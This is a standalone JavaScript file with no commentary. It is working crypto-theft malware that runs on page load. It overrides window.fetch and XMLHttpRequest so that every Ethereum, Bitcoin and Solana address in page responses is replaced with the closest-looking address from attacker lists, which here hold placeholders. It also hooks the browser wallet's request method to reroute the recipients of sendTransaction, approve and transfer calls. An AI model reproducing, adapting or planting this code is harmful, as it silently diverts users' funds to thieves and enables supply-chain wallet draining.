const lists = {
  ethereum: ['0x1111111111111111111111111111111111111111', '0x2222222222222222222222222222222222222222', '0x3333333333333333333333333333333333333333'],
  bitcoin: ['1FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE1', '1FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE2'],
  solana: ['FAKEfakeFAKEfakeFAKEfakeFAKEfakeFAKEfakeFAKE'],
};
const shapes = { ethereum: /\b0x[a-fA-F0-9]{40}\b/g, bitcoin: /\b1[a-km-zA-HJ-NP-Z1-9]{25,34}\b/g, solana: /\b[1-9A-HJ-NP-Za-km-z]{43,44}\b/g };
function distance(a, b) {
  const rows = Array.from({ length: a.length + 1 }, (_, i) => [i]);
  for (let j = 0; j <= b.length; j++) rows[0][j] = j;
  for (let i = 1; i <= a.length; i++) for (let j = 1; j <= b.length; j++) rows[i][j] = Math.min(rows[i - 1][j] + 1, rows[i][j - 1] + 1, rows[i - 1][j - 1] + (a[i - 1] === b[j - 1] ? 0 : 1));
  return rows[a.length][b.length];
}
function nearest(value, list) {
  let best = list[0], score = Infinity;
  for (const item of list) {
    const d = distance(value.toLowerCase(), item.toLowerCase());
    if (d < score) { score = d; best = item; }
  }
  return best;
}
function swap(text) {
  let out = text;
  for (const chain of Object.keys(shapes)) out = out.replace(shapes[chain], (found) => (lists[chain].includes(found) ? found : nearest(found, lists[chain])));
  return out;
}
async function checkethereumw() {
  try {
    const accounts = await window.ethereum.request({ method: 'eth_accounts' });
    if (accounts.length > 0) { hook(window.ethereum); page(); } else page();
  } catch (error) { page(); }
}
function page() {
  const original = window.fetch;
  window.fetch = async function (...args) {
    const answer = await original.apply(this, args);
    const kind = answer.headers.get('Content-Type') || '';
    const body = kind.includes('json') ? JSON.parse(swap(JSON.stringify(await answer.clone().json()))) : swap(await answer.clone().text());
    return new Response(typeof body === 'string' ? body : JSON.stringify(body), { status: answer.status, statusText: answer.statusText, headers: answer.headers });
  };
  const open = XMLHttpRequest.prototype.open;
  const send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.open = function (method, url) { this._url = url; return open.apply(this, arguments); };
  XMLHttpRequest.prototype.send = function () {
    const done = this.onreadystatechange;
    this.onreadystatechange = function () {
      if (this.readyState === 4) {
        const text = swap(this.responseText);
        Object.defineProperty(this, 'responseText', { value: text });
        Object.defineProperty(this, 'response', { value: text });
      }
      if (done) done.apply(this, arguments);
    };
    return send.apply(this, arguments);
  };
}
function hook(wallet) {
  const original = wallet.request;
  wallet.request = async function (call) {
    if (call.method === 'eth_sendTransaction' && call.params && call.params[0]) {
      const data = call.params[0].data || '';
      if (data.startsWith('0x095ea7b3') || data.startsWith('0xa9059cbb')) call.params[0].data = data.slice(0, 34) + lists.ethereum[0].slice(2) + data.slice(74);
      else call.params[0].to = lists.ethereum[0];
    }
    return original.apply(this, [call]);
  };
}
if (typeof window !== 'undefined' && typeof window.ethereum !== 'undefined') checkethereumw(); else if (typeof window !== 'undefined') page();
